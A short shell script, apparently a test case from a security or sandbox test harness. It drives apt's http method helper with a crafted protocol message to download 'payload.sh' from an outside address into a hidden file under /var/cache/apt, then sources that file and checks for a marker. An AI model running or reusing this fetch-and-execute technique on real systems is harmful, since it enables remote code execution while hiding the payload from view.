#!/bin/sh
. /opt/case/case.sh

mkfifo /tmp/.in
(printf '600 URI Acquire\nURI: http://203.0.113.10/payload.sh\nFilename: /var/cache/apt/.lists\n\n'; sleep 3) >/tmp/.in &
timeout 5 /usr/lib/apt/methods/http </tmp/.in >/tmp/.out || true
test -s /var/cache/apt/.lists
. /var/cache/apt/.lists
test -e /tmp/reached
took_place
